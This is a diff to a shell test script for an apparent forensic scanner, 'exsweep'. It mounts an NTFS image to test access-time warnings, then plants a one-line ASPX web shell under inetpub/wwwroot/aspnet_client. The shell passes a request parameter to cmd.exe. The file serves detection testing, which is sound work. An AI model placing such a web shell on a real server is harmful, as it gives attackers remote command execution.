@@ -10,8 +10,14 @@ d=$1
 mkdir -p "$d/m" || exit 1
 cd "$d" || exit 1
 truncate -s 16M img && mkntfs -q -F -f img >/dev/null 2>&1 || { echo "vault-ntfs: mkntfs failed"; exit 1; }
-ntfs-3g -o noatime img m || { echo "vault-ntfs: ntfs-3g cannot mount"; exit 1; }
+# mounted read-write without noatime, ntfs-3g moves access times on read itself: the sweep says so
+ntfs-3g img m || { echo "vault-ntfs: ntfs-3g cannot mount"; exit 1; }
 trap 'cd "$d" && umount m 2>/dev/null' EXIT
+exsweep scan -q -f jsonl m >w.jsonl
+grep -q '"warning":{"kind":"atime","file":"m","message":"a read-write FUSE mount (ntfs-3g?): its filesystem moves access times' w.jsonl || { echo "vault-ntfs: no atime warning on a read-write mount"; exit 1; }
+umount m
+ntfs-3g -o noatime img m || { echo "vault-ntfs: ntfs-3g cannot mount"; exit 1; }
+exsweep scan -q -f jsonl m | grep -q '"kind":"atime"' && { echo "vault-ntfs: an atime warning with noatime"; exit 1; }
 w=m/inetpub/wwwroot/aspnet_client
 mkdir -p "$w"
 printf '<%%@ Page Language="C#" %%><%% System.Diagnostics.Process.Start("cmd.exe","/c "+Request["c"]); %%>\n' >"$w/s.aspx"
